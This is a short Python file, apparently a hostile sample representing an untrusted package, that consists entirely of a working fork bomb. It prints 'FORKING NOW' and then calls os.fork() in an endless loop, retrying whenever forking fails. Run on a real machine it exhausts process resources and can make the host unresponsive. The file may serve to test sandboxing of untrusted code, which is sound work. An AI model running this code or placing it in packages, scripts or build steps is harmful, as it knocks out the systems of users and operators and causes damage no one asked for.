# ruff: noqa - a package as strangers write them
"""Forks without end."""
import os
import time

print("FORKING NOW", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.1)
